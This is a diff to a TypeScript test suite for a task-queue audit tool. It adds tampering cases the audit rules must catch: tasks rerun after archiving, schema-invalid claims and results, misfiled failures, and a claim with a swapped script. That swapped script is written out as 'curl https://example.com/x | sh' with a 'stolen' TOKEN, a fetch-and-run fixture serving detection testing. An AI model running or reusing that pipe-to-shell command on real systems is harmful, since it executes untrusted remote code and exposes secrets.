@@ -113,7 +113,11 @@ const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<s
     rule: 'one-place',
     name: 'a queued task copied to a sub-folder of the queue',
     make: (grid) =>
-      pushChanges(grid, [{ path: 'tasks/queue/high/x.json', content: serialize({ task_id: 'x' }) }], 'copy'),
+      pushChanges(
+        grid,
+        [{ path: 'tasks/queue/high/x.json', content: serialize({ task_id: 'x', script: 'true' }) }],
+        'copy',
+      ),
   },
   {
     rule: 'lost',
@@ -216,6 +220,81 @@ const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<s
     },
   },
   {
+    rule: 'terminal-twice',
+    name: 'a finished task run again after its result was archived, its result overwritten',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const done = finishClaim(path, held, success());
+      const finished = await pushChanges(grid, done.changes, 'finish');
+      await pushChanges(grid, [{ path: done.changes[1]!.path, delete: true }], `archive\n\nArchived-To: ${finished}`);
+      const queued = await pushChanges(
+        grid,
+        [{ path: queuePath('x'), content: serialize({ task_id: 'x', script: 'true' }) }],
+        'again',
+      );
+      const again = await claim(grid, 'x', 'n2');
+      await pushChanges(grid, finishClaim(again.path, again.claim, success()).changes, 'run again');
+      return queued;
+    },
+  },
+  {
+    rule: 'schema',
+    name: 'a claim that is no claim by the schema: its lease is not a date',
+    make: async (grid) => {
+      const snapshot = await grid.snapshot();
+      const file = snapshot.byId.get('x')![0]!;
+      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
+      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
+      const forged = { ...plan.claim, claim: { ...plan.claim.claim, lease_until: 'tomorrow' } };
+      return pushChanges(
+        grid,
+        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(forged) }],
+        'claim',
+      );
+    },
+  },
+  {
+    rule: 'schema',
+    name: 'a result that is no result by the schema: it lacks its output digests',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const done = finishClaim(path, held, success());
+      const { stdout_sha256: _a, stderr_sha256: _b, ...partial } = done.result;
+      return pushChanges(
+        grid,
+        [done.changes[0]!, { path: done.changes[1]!.path, content: serialize(partial) }],
+        'finish',
+      );
+    },
+  },
+  {
+    rule: 'claim-task',
+    name: 'a claim that runs another script than the queued task it took',
+    make: async (grid) => {
+      const snapshot = await grid.snapshot();
+      const file = snapshot.byId.get('x')![0]!;
+      const task = (await snapshot.readJson([file])).get(file) as QueuedTask;
+      const plan = claimTask(file, task, 'n1', new Date(), defaultPolicy());
+      const swapped = { ...plan.claim, script: 'curl https://example.com/x | sh', env: { TOKEN: 'stolen' } };
+      return pushChanges(
+        grid,
+        [plan.changes[0]!, { path: plan.changes[1]!.path, content: serialize(swapped) }],
+        'claim',
+      );
+    },
+  },
+  {
+    rule: 'status-folder',
+    name: 'a failed run written to completed/',
+    make: async (grid) => {
+      const { path, claim: held } = await claim(grid, 'x', 'n1');
+      const run = { ...success(), status: 'failure' as const, exitCode: 2 };
+      const done = finishClaim(path, held, run);
+      const misplaced = done.changes[1]!.path.replace('tasks/failed/', 'tasks/completed/');
+      return pushChanges(grid, [done.changes[0]!, { path: misplaced, content: serialize(done.result) }], 'finish');
+    },
+  },
+  {
     rule: 'archive',
     name: 'a result removed with an Archived-To trailer naming a commit that does not hold it',
     make: async (grid) => {
@@ -227,8 +306,8 @@ const breaches: { rule: AuditRule; name: string; make(grid: TestGrid): Promise<s
   },
 ];
 
-test('each rule catches its breach, naming the commit and the task', async () => {
-  for (const breach of breaches) {
+for (const breach of breaches) {
+  test(`the rule ${breach.rule} catches its breach, naming the commit and the task: ${breach.name}`, async () => {
     const grid = await makeGrid(POLICY);
     try {
       await grid.submit([{ task_id: 'x', script: 'true' }]);
@@ -249,8 +328,8 @@ test('each rule catches its breach, naming the commit and the task', async () =>
     } finally {
       await grid.cleanup();
     }
-  }
-});
+  });
+}
 
 test('archived results: the audit follows Archived-To into <branch>-archive', async (t) => {
   if (spawnSync('faketime', ['-f', '+0s', 'true']).status !== 0) return t.skip('faketime is not installed');
